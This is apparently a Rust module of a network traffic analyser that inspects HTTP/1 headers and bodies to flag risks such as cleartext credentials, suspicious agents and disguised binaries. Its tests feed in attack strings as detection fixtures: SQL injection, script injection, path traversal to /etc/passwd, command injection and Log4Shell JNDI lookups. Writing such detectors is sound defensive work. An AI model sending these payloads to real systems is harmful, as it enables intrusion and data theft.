//! What the messages of a conversation over HTTP/1 show beyond their names: the parts of a header
//! that matter to risks, and the first bytes of the body behind it.

use crate::attr;
use crate::field::Name;
use crate::meta::Meta;
use crate::risk::{Risk, Risks, content, http};
use crate::view::Notes;

/// Bytes of a form that are waited for.
const FORM_BYTES: u64 = 2048;

/// A request's header as it is read.
#[derive(Default)]
pub(super) struct Request<'a> {
    lines: http::Lines,
    kind: &'a [u8],
    length: u64,
    basic: bool,
    authorised: bool,
}

impl<'a> Request<'a> {
    /// Reads a header line; gives the field that it is, and its value.
    pub(super) fn line(&mut self, line: &'a [u8], notes: &mut Notes<'_>) -> (Name, &'a [u8]) {
        let (name, value) = self.lines.read(line);
        match name {
            Name::UserAgent => notes.meta.set_risks(notes.knowledge.judged().agent(value)),
            Name::ContentType => self.kind = value,
            Name::Authorization | Name::ProxyAuthorization => self.authorise(value),
            Name::ContentLength => self.length = number(value),
            _ => {}
        }
        (name, value)
    }

    fn authorise(&mut self, value: &[u8]) {
        // RFC 7617: user and password, encoded and in clear.
        let scheme = value.get(..6).unwrap_or_default();
        self.basic |= scheme.eq_ignore_ascii_case(b"basic ") && value.len() > 8;
        self.authorised = true;
    }

    /// Whether it came with credentials of any kind.
    pub(super) fn is_authorised(&self) -> bool {
        self.authorised
    }

    /// Whether it named no host.
    pub(super) fn lacks_host(&self) -> bool {
        self.lines.lacks_host()
    }

    /// What the header showed, and as much of the body as is there. Tells whether more of the
    /// body is worth waiting for.
    pub(super) fn judge(
        &self,
        complete: bool,
        target: &[u8],
        body: &[u8],
        meta: &mut Meta,
    ) -> bool {
        let mut risks = self.lines.of_request(complete);
        let query =
            target.iter().position(|byte| *byte == b'?').and_then(|at| target.get(at + 1..));
        let mut password = self.basic || query.is_some_and(http::has_password);
        let mut wanting = false;
        if complete && self.length > 0 {
            let form = is_type(self.kind, b"application/x-www-form-urlencoded");
            let object = is_type(self.kind, b"application/json");
            if form {
                risks = risks.or(http::judge_form(body.get(..http::FORM_BYTES).unwrap_or(body)));
                password |= http::has_password(body);
            } else if object {
                password |= http::has_password_member(body);
            }
            let there = u64::try_from(body.len()).unwrap_or(u64::MAX);
            wanting = (form || object) && there < self.length.min(FORM_BYTES);
        }
        meta.set_risks(risks.or(Risks::when(Risk::ClearTextCredentials, password)));
        wanting
    }
}

/// An answer's header as it is read.
#[derive(Default)]
pub(super) struct Answer<'a> {
    lines: http::Lines,
    kind: &'a [u8],
    file: &'a [u8],
    length: Option<u64>,
    chunked: bool,
    encoded: bool,
}

impl<'a> Answer<'a> {
    /// Reads a header line; gives the field that it is, and its value.
    pub(super) fn line(&mut self, line: &'a [u8], meta: &mut Meta) -> (Name, &'a [u8]) {
        let (name, value) = self.lines.read(line);
        match name {
            Name::Server | Name::XPoweredBy => meta.set_risks(http::judge_server(value)),
            Name::ContentType => self.kind = value,
            Name::ContentLength => self.length = Some(number(value)),
            Name::ContentEncoding => self.encoded = !is_type(value, b"identity"),
            Name::TransferEncoding => self.chunked = true,
            Name::ContentDisposition => self.file = content::file_name(value),
            _ => {}
        }
        (name, value)
    }

    /// What status, header and body showed; `authorised` says that the request had credentials.
    /// Tells whether more of the body is worth waiting for.
    pub(super) fn judge(
        &self,
        status: u16,
        authorised: bool,
        body: &[u8],
        meta: &mut Meta,
    ) -> bool {
        let refused = authorised && matches!(status, 401 | 407);
        let risks = self.lines.of_response().or(http::judge_status(status));
        meta.set_risks(risks.or(Risks::when(Risk::LoginRefused, refused)));
        let asked_for_header = meta.get(&attr::HTTP_METHOD) == Some(b"HEAD");
        if !matches!(status, 200 | 203 | 206) || asked_for_header || self.length == Some(0) {
            return false;
        }
        let expected = self.chunked || self.length.is_some() || !self.kind.is_empty();
        let head = if self.chunked { unchunked(body) } else { body };
        if expected && content::may_grow(head) {
            return true;
        }
        let path = meta.get(&attr::HTTP_PATH).unwrap_or_default();
        let name = if self.file.is_empty() { path } else { self.file };
        let risks =
            content::judge_content(head.get(..64).unwrap_or(head), self.kind, self.encoded, name);
        meta.set_risks(risks);
        false
    }
}

/// What is behind the first chunk's size (RFC 9112 section 7.1).
fn unchunked(body: &[u8]) -> &[u8] {
    let end = body.iter().take(64).position(|byte| *byte == b'\n');
    end.and_then(|end| body.get(end + 1..)).unwrap_or_default()
}

/// Whether a type is `word`, whatever its parameters are.
fn is_type(value: &[u8], word: &[u8]) -> bool {
    let head = value.get(..word.len());
    let ends = value.get(word.len()).is_none_or(|byte| matches!(byte, b';' | b' ' | b','));
    ends && head.is_some_and(|head| head.eq_ignore_ascii_case(word))
}

fn number(value: &[u8]) -> u64 {
    let digits = value.iter().take(18).take_while(|byte| byte.is_ascii_digit());
    digits.fold(0, |number, digit| number * 10 + u64::from(digit - b'0'))
}

#[cfg(test)]
mod tests {
    use super::super::http::HTTP;
    use crate::app::AppId;
    use crate::dissect::testing::Flow;
    use crate::risk::Risk;
    use crate::view::Direction::{ToClient, ToServer};
    use crate::view::{Outcome, Transport};

    const AGENT: &str = "Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n";

    /// What a request and its answer show.
    fn risks(request: &str, answer: &[u8]) -> Vec<&'static str> {
        let mut flow = Flow::new(Transport::Tcp, (50_000, 80));
        flow.ask(&HTTP, ToServer, request.replace("AGENT\r\n", AGENT).as_bytes());
        if !answer.is_empty() {
            flow.ask(&HTTP, ToClient, answer);
        }
        flow.meta.risks().iter().map(|about| about.name).collect()
    }

    const OK: &[u8] =
        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 99\r\n\r\n<html>";

    #[test]
    fn ordinary_conversations_show_nothing() {
        for request in [
            "GET /search?q=black+and+white HTTP/1.1\r\nAGENT\r\n\r\n",
            "POST /comment HTTP/1.1\r\nAGENT\r\nContent-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: 9\r\n\r\ntext=fine",
            "POST /api HTTP/1.1\r\nAGENT\r\nContent-Type: application/json\r\nContent-Length: 9\r\n\r\n{\"a\": 12}",
            "GET / HTTP/1.1\r\nAGENT\r\nAuthorization: Bearer abcdefgh\r\n\r\n",
        ] {
            assert_eq!(risks(request, OK), [""; 0], "{request}");
        }
    }

    #[test]
    fn credentials_in_clear() {
        for request in [
            "GET / HTTP/1.1\r\nAGENT\r\nAuthorization: Basic am9lOnNlY3JldA==\r\n\r\n",
            "GET / HTTP/1.1\r\nAGENT\r\nProxy-Authorization: basic am9lOnNlY3JldA==\r\n\r\n",
            "GET /login?user=joe&password=secret HTTP/1.1\r\nAGENT\r\n\r\n",
            "POST /login HTTP/1.1\r\nAGENT\r\nContent-Type: application/x-www-form-urlencoded; charset=x\r\n\
             Content-Length: 24\r\n\r\nuser=joe&password=secret",
            "POST /login HTTP/1.1\r\nAGENT\r\nContent-Type: application/json\r\n\
             Content-Length: 36\r\n\r\n{\"user\": \"joe\", \"password\": \"secret\"}",
        ] {
            assert_eq!(risks(request, OK), ["clear_text_credentials"], "{request}");
        }
        let basic = "GET / HTTP/1.1\r\nAGENT\r\nAuthorization: Basic am9lOnNlY3JldA==\r\n\r\n";
        let refused = b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n";
        let wanted = ["http_error_status", "clear_text_credentials", "login_refused"];
        assert_eq!(risks(basic, refused), wanted);
        // The question comes first.
        assert_eq!(risks("GET / HTTP/1.1\r\nAGENT\r\n\r\n", refused), ["http_error_status"]);
    }

    #[test]
    fn a_form_behind_its_header_is_waited_for() {
        let header = format!(
            "POST /login HTTP/1.1\r\n{AGENT}Content-Type: application/x-www-form-urlencoded\r\n\
             Content-Length: 24\r\n\r\n"
        );
        let mut flow = Flow::new(Transport::Tcp, (50_000, 80));
        assert_eq!(flow.ask(&HTTP, ToServer, header.as_bytes()), Outcome::found_more(AppId::HTTP));
        assert!(!flow.meta.risks().has(Risk::ClearTextCredentials));
        let whole = header + "user=joe&password=secret";
        flow.ask(&HTTP, ToServer, whole.as_bytes());
        assert!(flow.meta.risks().has(Risk::ClearTextCredentials));
        assert_eq!(flow.ask(&HTTP, ToClient, OK), Outcome::found(AppId::HTTP));
    }

    #[test]
    fn attacks_in_every_part() {
        for (request, name) in [
            ("GET /?id=1'+or+'1'='1 HTTP/1.1\r\nAGENT\r\n\r\n", "sql_injection"),
            ("GET /?q=<script>alert(1)</script> HTTP/1.1\r\nAGENT\r\n\r\n", "cross_site_scripting"),
            ("GET /../../etc/passwd HTTP/1.1\r\nAGENT\r\n\r\n", "path_traversal"),
            (
                "POST /a HTTP/1.1\r\nAGENT\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: 20\r\n\r\nip=1;cat%20/etc/host",
                "remote_code_execution",
            ),
            (
                "GET / HTTP/1.1\r\nAGENT\r\nX-Api-Version: ${jndi:ldap://192.0.2.1/a}\r\n\r\n",
                "known_exploit",
            ),
            // RFC 9112 section 3.2.
            ("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\n\r\n", "malformed"),
            (
                "POST /a HTTP/1.1\r\nAGENT\r\nContent-Type: application/x-www-form-urlencoded\r\n\
                 Content-Length: 40\r\n\r\nname=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1",
                "known_exploit",
            ),
            ("GET /.env HTTP/1.1\r\nAGENT\r\n\r\n", "probing"),
            (
                "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: sqlmap/1.0\r\n\r\n",
                "http_suspicious_agent",
            ),
            ("GET / HTTP/1.1\r\nHost: a\r\n\r\n", "http_suspicious_agent"),
            ("GET / HTTP/1.1\r\nAGENT\r\nHost: b\r\n\r\n", "http_suspicious_header"),
        ] {
            assert!(risks(request, b"").contains(&name), "{request} {:?}", risks(request, b""));
        }
    }

    #[test]
    fn programs_in_answers() {
        let get = "GET /a.png HTTP/1.1\r\nAGENT\r\n\r\n";
        let mut answer =
            b"HTTP/1.1 200 OK\r\nContent-Type: image/png\r\nContent-Length: 999\r\n\r\n".to_vec();
        let mut flow = Flow::new(Transport::Tcp, (50_000, 80));
        flow.ask(&HTTP, ToServer, get.replace("AGENT\r\n", AGENT).as_bytes());
        assert_eq!(
            flow.ask(&HTTP, ToClient, &answer),
            Outcome::found_more(AppId::HTTP),
            "no body yet"
        );
        answer.extend(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0");
        assert_eq!(flow.ask(&HTTP, ToClient, &answer), Outcome::found(AppId::HTTP));
        let found: Vec<_> = flow.meta.risks().iter().map(|about| about.name).collect();
        assert_eq!(found, ["binary_transfer", "misleading_content_type"]);
        let chunked = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n1f\r\n#!/bin/sh\nexit";
        assert_eq!(risks(get, chunked), ["script_transfer"]);
        let old = b"HTTP/1.1 404 Not Found\r\nServer: Apache/2.2.3\r\n\r\n";
        assert_eq!(risks(get, old), ["http_obsolete_server", "http_error_status"]);
        let php = b"HTTP/1.1 304 Not Modified\r\nX-Powered-By: PHP/5.4\r\n\r\n";
        assert_eq!(risks(get, php), ["http_obsolete_server"]);
    }
}
